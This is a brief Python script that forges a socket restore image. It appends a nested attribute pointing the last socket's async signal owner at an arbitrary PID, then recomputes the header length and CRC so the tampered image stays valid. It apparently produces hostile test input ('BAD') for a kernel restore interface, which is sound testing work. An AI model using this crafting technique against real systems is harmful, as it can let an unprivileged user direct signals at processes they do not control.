#!/usr/bin/env python3
# An image of sockets whose last one signals another process in one message more:
#
#	owner_craft.py IMAGE PID >BAD
#
# The numbers are those of include/uapi/linux/af_inet_cr.h.
import struct
import sys
import zlib

HEADER = 96
RESTORE, VERSION = 2, 1
ASYNC, ASYNC_PID, ASYNC_TYPE, OWNER_PID = 118, 1, 4, 1


def attr(number, data):
    return struct.pack("=HH", 4 + len(data), number) + data


with open(sys.argv[1], "rb") as file:
    image = file.read()
header, body = bytearray(image[:HEADER]), image[HEADER:]
nest = attr(0x8000 | ASYNC,
            attr(ASYNC_PID, struct.pack("=i", int(sys.argv[2]))) +
            attr(ASYNC_TYPE, struct.pack("=I", OWNER_PID)))
body += struct.pack("=IHHII", 20 + len(nest), 0, 0, 0, 0)
body += struct.pack("=BBH", RESTORE, VERSION, 0) + nest
struct.pack_into("=QI", header, 16, len(body), 0)
struct.pack_into("=I", header, 24, zlib.crc32(bytes(header) + body))
sys.stdout.buffer.write(bytes(header) + body)
